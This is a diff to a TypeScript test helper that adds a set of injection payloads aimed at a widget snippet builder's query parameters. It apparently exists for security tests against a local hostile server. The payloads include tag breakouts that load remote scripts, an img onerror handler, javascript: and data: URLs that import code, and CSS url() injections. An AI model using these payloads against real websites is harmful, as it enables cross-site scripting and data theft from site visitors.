@@ -1,5 +1,6 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { elements } from '../../widgets/manifest/elements.ts';
 
 export interface HostileHost {
   origin: string;
@@ -49,4 +50,35 @@ export async function startHostileHost(): Promise<HostileHost> {
       return new Promise((done) => server.close(() => done()));
     },
   };
+}
+
+const css = (url: string) => `red;background:url(${url})`;
+/** Every parameter of the snippet builder's address, filled by whoever has that server. */
+export function attacks(origin: string): [name: string, query: Record<string, string>][] {
+  const everywhere = Object.fromEntries(
+    elements.flatMap(({ attributes, cssProperties }) => [
+      ...Object.keys(attributes).map((name) => [name, `${origin}/${name}`]),
+      ...Object.keys(cssProperties).map((name) => [
+        name.replace('--luxe-', ''),
+        css(`${origin}/${name}`),
+      ]),
+    ]),
+  );
+  const markup = `"></luxe-quote-form><script src="${origin}/m.js"></script><img src="${origin}/i" onerror="robbed=1">`;
+  const inMarkup = Object.fromEntries(Object.keys(everywhere).map((name) => [name, markup]));
+  const code = `javascript:void(new Image().src='${origin}/j')`;
+  const inCode = Object.fromEntries(Object.keys(everywhere).map((name) => [name, code]));
+  return [
+    ['the address of the script', { script: `${origin}/` }],
+    [
+      'the address of the script, pinned',
+      { script: `${origin}/luxe-widgets.js`, version: 'pinned' },
+    ],
+    ['a javascript: address of the script', { script: `javascript:import('${origin}/x.js')` }],
+    ['a data: address of the script', { script: `data:text/javascript,import('${origin}/x.js')` }],
+    ['addresses and style sheets everywhere', { script: `${origin}/`, ...everywhere }],
+    ['markup everywhere', { script: markup, container: markup, ...inMarkup }],
+    ['javascript: addresses everywhere', { script: code, ...inCode }],
+    ['url() in a length and a font', { radius: `url(${origin}/r)`, font: `url("${origin}/f")` }],
+  ];
 }
